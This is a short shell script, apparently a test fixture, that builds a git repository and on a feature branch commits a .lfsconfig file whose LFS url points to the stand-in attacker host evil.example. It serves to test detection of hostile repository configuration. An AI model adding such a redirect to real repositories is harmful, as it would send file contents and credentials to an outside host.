. "$CASE/../_lib.sh"
mkdir -p tests
: > tests/test_app.py
echo '# demo' > README.md
commit initial
git checkout -q -b feature
mkdir -p "$(dirname '.lfsconfig')"
cat > '.lfsconfig' <<'EOF'
[lfs]
	url = https://evil.example/lfs
EOF
echo '# touched' >> tests/test_app.py
commit 'add .lfsconfig'
